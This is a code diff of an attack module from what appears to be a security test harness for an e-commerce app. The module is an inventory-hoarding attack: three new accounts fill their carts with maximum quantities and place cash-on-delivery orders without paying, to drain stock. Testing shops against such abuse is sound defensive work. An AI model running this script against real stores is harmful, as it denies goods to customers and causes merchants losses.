@@ -2,7 +2,7 @@ import { MongoClient } from "mongodb";
 import type { Attack, Target } from "../attack";
 
 const accounts = 3;
-const password = "shelves stay full";
+const password = "hoarded without paying";
 const destination = { address: "12 Silver Oak Residency", city: "Bengaluru", phone: "9845011223", pincode: "560038" };
 
 /** An account of the attacker: registers, signs in, and returns a function that makes its calls. */
@@ -32,14 +32,14 @@ async function piecesLeft({ mongodbUri }: Target): Promise<number> {
 type Offered = { _id: string; stock: number; stockBySize: Record<string, number> | null };
 
 /** As many pieces as a line may have, of the size with the most. */
-function mostOf({ _id, stock, stockBySize }: Offered) {
+function maxLineOf({ _id, stock, stockBySize }: Offered) {
   const [fullest] = Object.entries(stockBySize ?? {}).sort(([, a], [, b]) => b - a);
   const [size, left] = fullest ?? [undefined, stock];
   return { productId: _id, size, quantity: Math.max(1, Math.min(left, 10)) };
 }
 
-export const shelves: Attack = {
-  name: "shelves",
+export const hoarding: Attack = {
+  name: "hoarding",
   does: `${accounts} new accounts order all they can for cash and hold what is left, without paying`,
   run: async (target) => {
     const before = await piecesLeft(target);
@@ -50,7 +50,7 @@ export const shelves: Attack = {
       const call = await newAccount(target, number);
       for (let round = 0; round < 8; round++) {
         for (const product of data.slice(round * 4, round * 4 + 4)) {
-          await call("/api/shop/cart/add", mostOf(product));
+          await call("/api/shop/cart/add", maxLineOf(product));
         }
         for (const way of ["createCOD", "create"]) {
           const { status } = await call(`/api/shop/order/${way}`, { addressInfo: destination });
